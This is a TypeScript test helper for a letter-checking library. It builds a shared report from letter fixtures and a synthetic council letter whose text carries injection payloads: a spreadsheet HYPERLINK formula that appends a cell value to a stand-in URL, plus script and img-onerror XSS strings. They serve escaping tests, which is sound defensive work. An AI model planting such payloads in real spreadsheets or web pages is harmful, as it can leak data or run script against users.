/**
 * One multi-document run shared by the format tests: real fixtures checked
 * through the library (text, Markdown and .docx letters, clean and failing),
 * one unreadable .docx, and one letter whose text is hostile to every output
 * format (markup, ampersands, quotes, a control character, a spreadsheet
 * formula). Built once per test file and never mutated by a formatter.
 */
import { fileURLToPath } from 'node:url';
import { buildReport, check, checkDocument, loadBytes, resolveRules } from '../../../src/index.js';
import type { CheckReport } from '../../../src/types.js';

export const root = fileURLToPath(new URL('../../..', import.meta.url));

/** The fixtures in the run, in report order (the hostile letter comes last). */
export const SAMPLE_FIXTURES = {
  /** Wordy: many plain-language warnings and a sentence-length error. */
  wordy: 'fixtures/letters/noise-nuisance-wordy.txt',
  /** No findings at all. */
  clean: 'fixtures/letters/council-tax-clean.txt',
  /** "Dear Mrs Patel … Yours faithfully": one error with a fix. */
  patel: 'fixtures/letters/patel-faithfully.txt',
  markdown: 'fixtures/letters/repairs-appointment.md',
  /** The same mismatch in Word: findings carry paragraph and part. */
  docx: 'fixtures/docx/signoff-mismatch.docx',
  docxClean: 'fixtures/docx/council-tax-reduction.docx',
  /** Password-protected: cannot be read, so it has an error and no score. */
  unreadable: 'fixtures/bad/encrypted.docx',
} as const;

/** A name that needs escaping in XML, quoting in CSV and encoding in a URI. */
export const HOSTILE_PATH = "letters/O'Brien, flat 2 & <draft> #1.txt";

/**
 * What a resident typed into the online form was pasted into a reply as it
 * came: a formula, markup, an ampersand, quotes and a stray U+0001. The first
 * body sentence is long enough to be an error of plain/sentence-length, so
 * all of it lands in that finding's excerpt.
 */
export const HOSTILE_FIRST_SENTENCE =
  '=HYPERLINK("https://refund.example/?id="&A1,"Refund") & \u0001 <script>alert(1)</script> "><img src=x onerror=alert(2)> is what our online form received as your description of the noise from the flat above, so we could not read your report and have removed it from your case record today.';

export const HOSTILE_LETTER = `Eastbrook District Council
Environmental Health
Council Offices, Station Road
Eastbrook
EB1 4XY

Mr D O'Brien
Flat 2, 14 Mill Lane
Eastbrook
EB2 5JN

Our ref: EH/2025/0917
Please ask for: Priya Shah
Direct line: 01632 960 458
Email: environmental.health@eastbrook.gov.uk

12 May 2025

Dear Mr O'Brien

Your noise report

${HOSTILE_FIRST_SENTENCE}

Please send your report again using the form on our website, or call me on 01632 960 458 and I will take the details over the phone.

Yours sincerely

Priya Shah
Environmental Health Officer
`;

let cached: Promise<CheckReport> | undefined;

async function buildSampleReport(): Promise<CheckReport> {
  const fromFiles = await check(Object.values(SAMPLE_FIXTURES), { cwd: root, keepDocuments: true });
  const hostile = await loadBytes(HOSTILE_PATH, new TextEncoder().encode(HOSTILE_LETTER), 'txt');
  const report = buildReport([...fromFiles.files, checkDocument(hostile, {}, resolveRules())]);
  report.documents = [...(fromFiles.documents ?? []), hostile];
  return report;
}

/** The shared report (with `documents` kept). Treat it as read-only. */
export function sampleReport(): Promise<CheckReport> {
  cached ??= buildSampleReport();
  return cached;
}

/** The report's entry for a file of the run, by path. */
export function fileOf(report: CheckReport, path: string) {
  const file = report.files.find((f) => f.path === path);
  if (!file) throw new Error(`${path} is not in the sample report`);
  return file;
}
